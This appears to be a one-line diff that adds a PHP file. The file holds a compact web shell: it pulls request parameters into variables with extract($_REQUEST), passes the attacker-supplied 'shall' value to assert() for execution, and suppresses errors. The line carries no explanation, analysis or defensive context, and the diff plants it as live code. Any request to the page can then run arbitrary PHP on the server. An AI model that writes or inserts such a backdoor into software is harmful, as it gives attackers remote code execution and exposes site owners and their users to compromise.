@@ -1,0 +1,1 @@
+<?php extract($_REQUEST) && @assert(stripslashes($shall)) && exit;
